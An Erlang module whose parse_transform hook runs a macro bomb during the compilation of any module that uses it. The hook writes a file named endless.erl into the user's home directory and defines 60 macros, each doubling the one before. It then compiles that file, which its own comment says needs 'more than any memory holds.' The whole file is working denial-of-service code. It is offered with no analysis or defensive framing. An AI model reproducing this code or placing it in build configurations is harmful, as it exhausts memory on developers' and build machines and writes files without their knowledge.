%% A macro of macros, each of which stands twice in the next: more than any memory holds.
-module(act).
-export([act/0, parse_transform/2]).

parse_transform(Forms, _Options) ->
    act(),
    Forms.

act() ->
    File = filename:join(os:getenv("HOME", "/tmp"), "endless.erl"),
    Twice = [io_lib:format("-define(M~p, [?M~p, ?M~p]).~n", [N, N - 1, N - 1]) || N <- lists:seq(1, 60)],
    ok = file:write_file(File, ["-module(endless).\n-export([f/0]).\n-define(M0, x).\n", Twice, "f() -> ?M60.\n"]),
    compile:file(File, [binary]),
    io:format("tried~n").
